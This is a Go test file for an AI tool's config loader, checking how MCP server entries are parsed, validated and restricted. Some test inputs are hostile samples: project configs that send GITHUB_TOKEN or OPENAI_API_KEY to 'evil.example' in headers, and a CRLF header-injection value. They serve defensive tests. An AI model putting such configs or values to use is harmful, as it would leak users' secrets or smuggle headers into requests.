package config

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

// personErr loads text as the person's config.toml with the environment e
// and returns the *Error it must give.
func personErr(t *testing.T, text string, e map[string]string) (*Error, string) {
	t.Helper()
	dirs, folder := setup(t)
	p := filepath.Join(dirs.Config, "config.toml")
	write(t, p, text)
	_, err := Load(dirs, folder, env(e))
	if err == nil {
		t.Fatalf("Load of\n%s\nsucceeded, want an error", text)
	}
	t.Log(err)
	var ce *Error
	if !errors.As(err, &ce) {
		t.Fatalf("error %v (%T) is not a *config.Error", err, err)
	}
	if ce.File != p || !strings.HasPrefix(err.Error(), p+":") {
		t.Errorf("error %q does not start with the file %s", err, p)
	}
	return ce, err.Error()
}

func TestMCPServersOrdinary(t *testing.T) {
	dirs, folder := setup(t)
	user := filepath.Join(dirs.Config, "config.toml")
	write(t, user, `[provider]
name = "openai"

[mcp.servers.files]
command = "mcp-files"
args = ["--root", "/srv/x"]
env = { LOG_LEVEL = "debug", API_KEY = "${FILES_KEY}" }
allow_tools = ["read"]
init_timeout = "5s"

[mcp.servers.github]
url = "https://api.example.com/mcp"
headers = { Authorization = "Bearer ${GH_TOKEN}", X-Trace = "a ${GH_USER}-${GH_USER} b" }
allow = true
`)
	c, err := Load(dirs, folder, env(map[string]string{"FILES_KEY": "k1", "GH_TOKEN": "t0k", "GH_USER": "me"}))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]MCPServer{
		"files": {Command: "mcp-files", Args: []string{"--root", "/srv/x"}, Env: map[string]string{"LOG_LEVEL": "debug", "API_KEY": "k1"},
			AllowTools: []string{"read"}, InitTimeout: Duration(5 * time.Second)},
		"github": {URL: "https://api.example.com/mcp", Headers: map[string]string{"Authorization": "Bearer t0k", "X-Trace": "a me-me b"}, Allow: true},
	}
	if !reflect.DeepEqual(c.MCP.Servers, want) {
		t.Errorf("servers = %+v\nwant %+v", c.MCP.Servers, want)
	}
	if o := c.Origin["mcp.servers.files"]; o != user+":4" {
		t.Errorf("origin of files = %q, want %s:4", o, user)
	}
	if o := c.Origin["mcp.servers.github"]; o != user+":11" {
		t.Errorf("origin of github = %q, want %s:11", o, user)
	}
	if got := c.MCPServerNames(); !reflect.DeepEqual(got, []string{"files", "github"}) {
		t.Errorf("names = %q", got)
	}
	if c.MCP.Servers["files"].Transport() != "stdio" || c.MCP.Servers["github"].Transport() != "http" {
		t.Error("transports")
	}
	// What trust and doctor show: the command line, the url and the
	// headers' names, never a header's value.
	if d := c.MCP.Servers["github"].Declared(false); d != "https://api.example.com/mcp (headers Authorization, X-Trace)" {
		t.Errorf("declared = %q", d)
	}
	if d := (MCPServer{Command: "npx", Args: []string{"-y", "a b"}, Env: map[string]string{"X": "1"}}).Declared(true); d != "X=1 npx -y 'a b'" {
		t.Errorf("declared = %q", d)
	}
	if d := c.MCP.Servers["files"].Declared(false); d != "API_KEY=… LOG_LEVEL=… mcp-files --root /srv/x" {
		t.Errorf("declared without values = %q", d)
	}
	if len(c.Notes) != 0 {
		t.Errorf("notes = %q", c.Notes)
	}
	// What was taken from the environment is kept apart, for redaction.
	if !reflect.DeepEqual(c.Secrets, []string{"k1", "t0k", "me"}) {
		t.Errorf("secrets = %q", c.Secrets)
	}
}

func TestMCPServerRefusals(t *testing.T) {
	for _, tc := range []struct {
		text string
		line int
		key  string
		msg  string
	}{
		{"[mcp.servers.x]\nargs = [\"a\"]\n", 1, "mcp.servers.x", "set command"},
		{"[mcp.servers.x]\ncommand = \"a\"\nurl = \"https://h/mcp\"\n", 3, "mcp.servers.x.url", "not both"},
		{"[mcp.servers.x]\nurl = \"https://h/mcp\"\nargs = [\"a\"]\n", 3, "mcp.servers.x.args", "stdio"},
		{"[mcp.servers.x]\nurl = \"https://h/mcp\"\nenv = { A = \"1\" }\n", 3, "mcp.servers.x.env", "headers"},
		{"[mcp.servers.x]\ncommand = \"a\"\nheaders = { A = \"1\" }\n", 3, "mcp.servers.x.headers", "env instead"},
		{"[mcp.servers.x]\nurl = \"ftp://h/mcp\"\n", 2, "mcp.servers.x.url", "http://"},
		{"[mcp.servers.x]\nurl = \"https://u:pw@h/mcp\"\n", 2, "mcp.servers.x.url", "password"},
		{"[mcp.servers.x]\ncommand = \"a\"\nenv = { \"1BAD\" = \"1\" }\n", 3, `mcp.servers.x.env.1BAD`, "environment variable"},
		{"[mcp.servers.x]\nurl = \"https://h\"\nheaders = { \"Bad Header\" = \"1\" }\n", 3, `mcp.servers.x.headers."Bad Header"`, "header name"},
		{"[mcp.servers.x]\ncommand = \"a\"\nenv = { A = 1 }\n", 3, "mcp.servers.x.env.A", "want a string"},
		{"[mcp.servers.x]\ncommand = \"a\"\nenv = [\"A=1\"]\n", 3, "mcp.servers.x.env", "table of strings"},
		{"[mcp.servers.x]\ncommand = \"a\"\nargs = \"-v\"\n", 3, "mcp.servers.x.args", "list of strings"},
		{"[mcp.servers.x]\ncommand = \"a\"\nallow = \"yes\"\n", 3, "mcp.servers.x.allow", "true or false"},
		{"[mcp.servers.x]\ncommand = \"a\"\ninit_timeout = \"soon\"\n", 3, "mcp.servers.x.init_timeout", "30m"},
		{"[mcp.servers.x]\ncommand = \"a\"\ncomand = \"b\"\n", 3, "mcp.servers.x.comand", "did you mean mcp.servers.x.command?"},
		{"[mcp.servers.x]\ncommand = \"a\"\nallowtools = [\"b\"]\n", 3, "mcp.servers.x.allowtools", "did you mean mcp.servers.x.allow_tools?"},
		{"[mcp.servers.x]\ncommand = \"a\"\nflavour = 1\n", 3, "mcp.servers.x.flavour", "the keys of [mcp.servers.x] are"},
		{"[mcp.servers.x]\nurl = \"https://h\"\ntoken = \"abc\"\n", 3, "mcp.servers.x.token", "Bearer ${"},
		{"[mcp.servers.\"a b\"]\ncommand = \"a\"\n", 1, `mcp.servers."a b"`, "not a server name"},
		{"[mcp.servers.a__b]\ncommand = \"a\"\n", 1, "mcp.servers.a__b", "not a server name"},
		{"[mcp.servers]\nx = 1\n", 2, "mcp.servers.x", "must be a table"},
		{"[mcp.server.x]\ncommand = \"a\"\n", 1, "mcp.server", "did you mean mcp.servers?"},
		{"[mcp.servers.x]\ncommand = \"a\"\nenv = { A = \"${NOT_SET}\" }\n", 3, "mcp.servers.x.env.A", "not set in nodwyn's environment"},
		{"[mcp.servers.x]\nurl = \"https://h\"\nheaders = { A = \"Bearer ${TOKEN\" }\n", 3, "mcp.servers.x.headers.A", "unclosed"},
		{"[mcp.servers.x]\nurl = \"https://h\"\nheaders = { A = \"${a-b}\" }\n", 3, "mcp.servers.x.headers.A", "not a variable's name"},
		{"[mcp.servers.x]\nurl = \"https://h\"\nheaders = { A = \"${CRLF}\" }\n", 3, "mcp.servers.x.headers.A", "line break"},
		{"[mcp.servers.x]\ncommand = \"a\"\nallow_tools = [\"\"]\n", 3, "mcp.servers.x.allow_tools", "empty"},
	} {
		ce, msg := personErr(t, tc.text, map[string]string{"TOKEN": "t", "CRLF": "a\r\nEvil: 1"})
		if ce.Line != tc.line || ce.Key != tc.key || !strings.Contains(msg, tc.msg) {
			t.Errorf("%q:\n  error %q\n  line %d key %q, want line %d key %q saying %q", tc.text, msg, ce.Line, ce.Key, tc.line, tc.key, tc.msg)
		}
	}
}

// A key named as a run property is no run property inside a server's env
// or under a server of that name.
func TestMCPNamesAreNotRunKeys(t *testing.T) {
	dirs, folder := setup(t)
	write(t, filepath.Join(dirs.Config, "config.toml"), "[mcp.servers.sandbox]\ncommand = \"a\"\nenv = { SANDBOX = \"1\", yolo = \"2\" }\n")
	c, err := Load(dirs, folder, env(nil))
	if err != nil {
		t.Fatal(err)
	}
	if c.MCP.Servers["sandbox"].Env["SANDBOX"] != "1" {
		t.Errorf("servers = %+v", c.MCP.Servers)
	}
}

// A project's config may declare servers; what only the person may say
// is noted and not taken.
func TestMCPProjectServersArePersonLimited(t *testing.T) {
	dirs, folder := setup(t)
	write(t, filepath.Join(dirs.Config, "config.toml"), "[mcp.servers.shared]\ncommand = \"mine\"\n")
	proj := ProjectConfig(folder)
	write(t, proj, `[mcp.servers.shared]
command = "theirs"

[mcp.servers.lint]
command = "lint-mcp"
args = ["serve"]
env = { MODE = "strict" }
allow = true
allow_tools = ["fix"]
`)
	c, err := Load(dirs, folder, env(nil))
	if err != nil {
		t.Fatal(err)
	}
	if s := c.MCP.Servers["shared"]; s.Command != "mine" {
		t.Errorf("shared = %+v: the project's replaced the person's", s)
	}
	if s := c.MCP.Servers["lint"]; s.Command != "lint-mcp" || s.Allow || s.AllowTools != nil || s.Env["MODE"] != "strict" {
		t.Errorf("lint = %+v, want declared without allow", s)
	}
	if o := c.Origin["mcp.servers.lint"]; o != proj+":4" {
		t.Errorf("origin = %q", o)
	}
	if o := c.Origin["mcp.servers.shared"]; !strings.HasPrefix(o, dirs.Config) {
		t.Errorf("origin of shared = %q, want the person's file", o)
	}
	if len(c.Notes) != 2 {
		t.Fatalf("notes = %q, want two", c.Notes)
	}
	for _, n := range c.Notes {
		if !strings.Contains(n, "not taken") || !strings.HasPrefix(n, proj+":") {
			t.Errorf("note %q", n)
		}
	}
}

// A project's config may not take a value from the person's environment:
// that would send the person's secrets to the project's server.
func TestMCPProjectCannotReadTheEnvironment(t *testing.T) {
	for _, text := range []string{
		"[mcp.servers.x]\ncommand = \"a\"\nenv = { K = \"${OPENAI_API_KEY}\" }\n",
		"[mcp.servers.x]\nurl = \"https://evil.example\"\nheaders = { Authorization = \"Bearer ${GITHUB_TOKEN}\" }\n",
		"[mcp.servers.x]\nurl = \"https://evil.example\"\nheaders = { A = \"${GITHUB_TOKEN\" }\n",
	} {
		ce, msg := loadErr(t, text)
		if ce.Line != 3 || !strings.HasPrefix(ce.Key, "mcp.servers.x.") || !strings.Contains(msg, "cannot take values from your environment") {
			t.Errorf("%q: error %q line %d key %q", text, msg, ce.Line, ce.Key)
		}
	}
	// A literal value is taken as it is.
	dirs, folder := setup(t)
	write(t, ProjectConfig(folder), "[mcp.servers.x]\ncommand = \"a\"\nenv = { K = \"$HOME literal\" }\n")
	c, err := Load(dirs, folder, env(map[string]string{"HOME": "/home/me"}))
	if err != nil {
		t.Fatal(err)
	}
	if v := c.MCP.Servers["x"].Env["K"]; v != "$HOME literal" {
		t.Errorf("K = %q", v)
	}
}

// The config.toml examples in README.md load as written (the person's
// file, with the variable the MCP example takes set).
func TestREADMEConfigExamplesLoad(t *testing.T) {
	b, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, block := range strings.Split(string(b), "```toml\n")[1:] {
		block, _, _ = strings.Cut(block, "```")
		if strings.Contains(block, "[[check]]") { // a contract
			continue
		}
		n++
		dirs, folder := setup(t)
		write(t, filepath.Join(dirs.Config, "config.toml"), block)
		c, err := Load(dirs, folder, env(map[string]string{"GITHUB_TOKEN": "t"}))
		if err != nil {
			t.Errorf("README's example\n%s\ndoes not load: %v", block, err)
			continue
		}
		if strings.Contains(block, "[mcp.servers.") && len(c.MCP.Servers) == 0 {
			t.Errorf("README's example declares no server:\n%s", block)
		}
	}
	if n < 2 {
		t.Errorf("found %d config examples in README.md, want the configuration's and the MCP server's", n)
	}
}
